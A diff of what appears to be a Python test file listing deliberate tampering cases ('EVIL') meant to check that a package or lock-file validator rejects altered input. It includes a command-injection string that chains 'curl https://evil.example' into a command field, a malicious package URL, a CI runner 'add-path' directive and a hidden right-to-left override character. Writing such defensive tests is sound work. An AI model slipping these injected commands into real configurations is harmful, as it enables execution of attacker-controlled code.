@@ -142,7 +142,7 @@ EVIL: dict[str, Callable[[Path], object]] = {
     "a package's address": append(PACKAGES, f"evil https://evil.example/x.deb {HASH}\n"),
     "a command for the runner": append(PACKAGES, "::add-path::/tmp\n"),
     "other versions of a fault": change(FAULTS, "<2.50.41", "<2.50.41,>=1"),
-    "another fix of a fault": change(FAULTS, 'fix = "use QNN', 'fix = "curl https://evil.example; use QNN'),
+    "another command of a fault": change(FAULTS, 'show = "nox', 'show = "curl https://evil.example; nox'),
     "characters that hide": change(PACKAGES, "# Written", "# \u202eWritten"),
     "a huge file": lambda folder: (folder / LOCK).write_text("#" * (pins.LARGEST + 1)),
     "bytes": lambda folder: (folder / LOCK).write_bytes(b"\xff\n"),
